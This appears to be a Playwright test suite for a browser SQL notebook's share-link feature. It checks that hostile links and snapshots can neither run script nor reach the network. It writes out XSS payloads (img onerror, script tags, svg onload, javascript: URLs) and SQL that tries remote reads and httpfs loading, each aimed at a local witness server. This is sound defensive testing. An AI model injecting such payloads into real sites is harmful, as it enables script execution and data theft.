import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { makeCell } from '../../src/notebook/document.ts';
import { shareLink } from '../../src/notebook/share-link.ts';
import { SnapshotWriter } from '../../src/sample/writer.ts';
import { cellStatus, expectNotebookSettled, expectOpened, expectTemplateNotebookDone, notebookCell, runSqlCell } from './helpers.ts';

/** A server on another port, standing for anything a hostile link would like to reach: it counts what reaches it. */
interface Witness {
  origin: string;
  requests: string[];
  close(): Promise<void>;
}

async function startWitness(answer: (path: string) => { body: Uint8Array | string; type: string } = () => ({ body: 'a,b\n1,2\n', type: 'text/csv' })): Promise<Witness> {
  const requests: string[] = [];
  const server: Server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    const { body, type } = answer(request.url ?? '/');
    response.writeHead(200, { 'Content-Type': type, 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' });
    response.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** Every request of the context's pages and workers (DuckDB's and the reader's run in workers). */
function watchRequests(context: BrowserContext): string[] {
  const urls: string[] = [];
  // The service worker's precache (the app's own files, the sample among them) is not the page's doing.
  context.on('request', (request) => request.serviceWorker() || urls.push(request.url()));
  return urls;
}

/** Script that ran, however it got in: a dialog, an error, or a CSP refusal of markup that reached the DOM as HTML. */
async function watchExecution(page: Page): Promise<{ dialogs: string[]; errors: string[]; violations: () => Promise<string[]> }> {
  const dialogs: string[] = [];
  const errors: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => errors.push(error.message));
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      const where = event.target instanceof Element ? ` in ${event.target.outerHTML.slice(0, 160)}` : '';
      seen.push(`${event.violatedDirective} ${event.blockedURI}${where}`);
    });
  });
  return { dialogs, errors, violations: () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations) };
}

const cellNames = (page: Page) => page.getByRole('textbox', { name: /^Name of cell / }).evaluateAll((inputs) => inputs.map((input) => (input as HTMLInputElement).value));
const gridText = (page: Page, name: string) => notebookCell(page, name).getByRole('grid', { name: `Result of ${name}` }).innerText();

test('Copy link → a fresh browser profile sees what the link holds, nothing runs until Open, then the same cells and results', async ({ browser, page }) => {
  await page.goto('./?data=./sample.db');
  await expectOpened(page, 'sample.db');
  await expectTemplateNotebookDone(page);
  await runSqlCell(page, 'SELECT trial, count(*) AS n FROM runs JOIN trials USING (trial_id) GROUP BY trial ORDER BY trial');
  await page.getByRole('textbox', { name: 'Notebook title', exact: true }).fill('Which trial won');
  const names = await cellNames(page);
  const sqlRows = await gridText(page, 'sql');
  const perTrial = await gridText(page, 'per_trial');

  await page.getByRole('button', { name: 'Copy link', exact: true }).click();
  const link = await page.getByRole('textbox', { name: 'Share link', exact: true }).inputValue();
  await expect(page.getByRole('status').filter({ hasText: /^(Link copied|This browser did not allow copying)/ })).toContainText('It opens this notebook on 127.0.0.1');
  const origin = new URL(page.url()).origin;
  expect(link.startsWith(`${origin}/?data=${encodeURIComponent(`${origin}/sample.db`)}#notebook=1.`)).toBe(true);
  expect(link.length).toBeLessThan(8 * 1024);

  const other = await browser.newContext();
  const requests = watchRequests(other);
  const fresh = await other.newPage();
  await fresh.goto(link);
  const offer = fresh.getByRole('region', { name: 'Open the shared notebook?' });
  await expect(offer).toContainText(`This link holds a notebook: Which trial won, ${names.length} cells`);
  await expect(offer).toContainText(`${origin}/sample.db`);
  await expect(offer).toContainText('Nothing of it has run yet.');
  // Before the user says yes: no data fetched, no cell shown or run.
  await fresh.waitForTimeout(500);
  expect(requests.filter((url) => url.endsWith('/sample.db'))).toEqual([]);
  await expect(fresh.getByRole('status', { name: /^Status of cell / })).toHaveCount(0);

  await offer.getByRole('button', { name: 'Open notebook', exact: true }).click();
  await expect(offer).toHaveCount(0);
  await expectOpened(fresh, 'sample.db');
  await expectTemplateNotebookDone(fresh);
  await expect(cellStatus(fresh, 'sql')).toHaveText(/^\[\d+\] Done in /);
  expect(await cellNames(fresh)).toEqual(names);
  await expect(fresh.getByRole('textbox', { name: 'Notebook title', exact: true })).toHaveValue('Which trial won');
  expect(await gridText(fresh, 'sql')).toBe(sqlRows);
  expect(await gridText(fresh, 'per_trial')).toBe(perTrial);
  // Accepted once: the fragment is gone, so a reload restores the notebook instead of asking again.
  expect(fresh.url()).not.toContain('#notebook=');
  await other.close();
});

/** A snapshot whose names are markup and script, as a hostile export could hold. */
async function hostileSnapshot(witness: string): Promise<Uint8Array> {
  const w = await SnapshotWriter.create();
  const experiment = w.experiment({ title: `<img src=x onerror="fetch('${witness}/img-onerror')">sweep`, start_time: '2026-03-01T09:00:00' });
  const trial = w.trial(experiment, { name: `<script>fetch('${witness}/script')</script>lr`, start_time: '2026-03-01T09:00:00' });
  for (let i = 0; i < 4; i++) {
    const run = w.run(trial, { start_time: `2026-03-01T10:0${i}:00` });
    w.epoch(run, 0, `2026-03-01T10:0${i}:30`);
    w.epochMetric(run, 0, `<svg onload="fetch('${witness}/svg')">acc`, 0.5 + i / 10);
    w.resultsMetric(run, 'test_acc', 0.8 + i / 100, null, `2026-03-01T10:0${i}:50`);
    w.artifact('model', `javascript:fetch('${witness}/artifact')`, { runId: run });
  }
  const bytes = w.export();
  w.close();
  return bytes;
}

test('a hostile link on a hostile snapshot: nothing executes, SQL cannot fetch, nothing leaves the tab', async ({ context, page }) => {
  const witness = await startWitness();
  try {
    const snapshot = await hostileSnapshot(witness.origin);
    await page.route(/\/hostile\.db$/, (route) => route.fulfill({ body: Buffer.from(snapshot), contentType: 'application/octet-stream' }));
    const seen = await watchExecution(page);
    const requests = watchRequests(context);
    await page.goto('./');
    const origin = new URL(page.url()).origin;
    const markup = `<img src=x onerror="fetch('${witness.origin}/md-onerror')"> <script>fetch('${witness.origin}/md-script')</script> [click](javascript:fetch('${witness.origin}/md-link'))`;
    const doc = {
      title: `<img src=x onerror="fetch('${witness.origin}/title')">`,
      cells: [
        makeCell('markdown', 'notes', `# Findings\n\n${markup}`),
        makeCell('sql', 'leak', `SELECT * FROM read_csv('${witness.origin}/secret.csv')`),
        makeCell('sql', 'install', 'INSTALL httpfs'),
        makeCell('sql', 'extension', 'LOAD httpfs'),
        makeCell('sql', 'unlock', 'SET enable_external_access = true'),
        makeCell('sql', 'names', 'SELECT e.title, t.trial FROM experiments e JOIN trials t USING (experiment_id)'),
        makeCell('query', 'per_trial', 'metric: test_acc\ngroup_by: [trial]\n'),
        makeCell('chart', 'per_trial_chart', `input: per_trial\ntitle: "<img src=x onerror=\\"fetch('${witness.origin}/chart')\\">"\n`),
      ],
    };
    const link = await shareLink(`${origin}/`, { doc, data: [`${origin}/hostile.db`], snapshot: null });
    await page.goto(link);
    const offer = page.getByRole('region', { name: 'Open the shared notebook?' });
    await expect(offer).toContainText(`This link holds a notebook: ${doc.title}, 8 cells`);
    await offer.getByRole('button', { name: 'Open notebook', exact: true }).click();
    await expectOpened(page, 'hostile.db');
    await expectNotebookSettled(page);

    await expect(notebookCell(page, 'leak').getByRole('alert')).toContainText(`This SQL tries to fetch the address "${witness.origin}/secret.csv", and Trialbook's engine has no access to files or the network`);
    await expect(notebookCell(page, 'extension').getByRole('alert')).toContainText('DuckDB extensions cannot be loaded in Trialbook');
    await expect(notebookCell(page, 'unlock').getByRole('alert')).toContainText("Trialbook's engine settings cannot be changed from SQL");
    // The snapshot's markup is shown as the text it is.
    await expect(notebookCell(page, 'names').getByRole('grid', { name: 'Result of names' })).toContainText('<script>');
    await expect(page.getByText(`<img src=x onerror="fetch('${witness.origin}/img-onerror')">sweep`).first()).toBeVisible();
    await expect(notebookCell(page, 'per_trial_chart').locator('svg').first()).toBeVisible();
    await expect(page.locator('main script, main [onerror], main [onload], main a[href^="javascript:"], main iframe, main object')).toHaveCount(0);
    await expect(notebookCell(page, 'notes').getByRole('heading', { name: 'Findings' })).toBeVisible();

    expect(witness.requests).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.errors).toEqual([]);
    expect(await seen.violations()).toEqual([]);
    const foreign = requests.filter((url) => !/^(data|blob):/.test(url) && new URL(url).origin !== origin);
    expect(foreign).toEqual([]);
  } finally {
    await witness.close();
  }
});

test('the page may connect only to itself and the snapshot address of its link', async ({ page }) => {
  const snapshot = await hostileSnapshot('http://127.0.0.1:9');
  const host = await startWitness((path) => (path === '/tracker.db' ? { body: snapshot, type: 'application/octet-stream' } : { body: 'no', type: 'text/plain' }));
  const elsewhere = await startWitness();
  try {
    const seen = await watchExecution(page);
    await page.goto(`./?data=${encodeURIComponent(`${host.origin}/tracker.db`)}`);
    await expectOpened(page, 'tracker.db');
    const policies = await page.locator('meta[http-equiv="Content-Security-Policy"]').evaluateAll((metas) => metas.map((meta) => meta.getAttribute('content')));
    expect(policies).toContain(`connect-src 'self' ${host.origin}/tracker.db`);
    const attempt = (url: string) => page.evaluate((target) => fetch(target).then(() => 'fetched', () => 'refused'), url);
    expect(await attempt(`${elsewhere.origin}/steal?data=1`)).toBe('refused');
    expect(await attempt(`${host.origin}/other-path`)).toBe('refused');
    expect(await attempt(`${host.origin}/tracker.db`)).toBe('fetched');
    expect(elsewhere.requests).toEqual([]);
    expect(host.requests.filter((request) => !request.endsWith(' /tracker.db'))).toEqual([]);
    expect((await seen.violations()).map((violation) => violation.split(' ')[0])).toEqual(['connect-src', 'connect-src']);
  } finally {
    await host.close();
    await elsewhere.close();
  }
});

test('a damaged link is refused in words, a declined one runs and fetches nothing, a link without data names the snapshot to open', async ({ page, context }) => {
  const requests = watchRequests(context);
  await page.goto('./?data=./sample.db');
  await expectOpened(page, 'sample.db');
  await expectTemplateNotebookDone(page);
  const names = await cellNames(page);
  const origin = new URL(page.url()).origin;

  const doc = { title: 'Shared without data', cells: [makeCell('markdown', 'intro', '# Runs'), makeCell('sql', 'counted', 'SELECT count(*) AS n FROM runs')] };
  const link = await shareLink(`${origin}/`, { doc, data: [], snapshot: 'tracker.db' });

  await page.goto(`${link.slice(0, -30)}`);
  await expect(page.getByRole('alert').filter({ hasText: 'Could not open the shared notebook in this link.' })).toContainText('damaged');
  await expect(page.getByRole('alert').filter({ hasText: 'Could not open the shared notebook in this link.' })).toContainText('The notebook in this tab is unchanged.');
  expect(await cellNames(page)).toEqual(names);

  await page.goto(link);
  const offer = page.getByRole('region', { name: 'Open the shared notebook?' });
  await expect(offer).toContainText('None: a link never carries data. It was made on tracker.db');
  const before = requests.length;
  await offer.getByRole('button', { name: 'Not now', exact: true }).click();
  await expect(offer).toHaveCount(0);
  expect(await cellNames(page)).toEqual(names);
  expect(requests.slice(before)).toEqual([]);

  // Declining leaves the address as it was: a reload asks again.
  await page.reload();
  await page.getByRole('region', { name: 'Open the shared notebook?' }).getByRole('button', { name: 'Open notebook', exact: true }).click();
  expect(await cellNames(page)).toEqual(['intro', 'counted']);
  await expect(page.getByRole('note').filter({ hasText: 'This shared notebook was made on tracker.db.' })).toBeVisible();
});
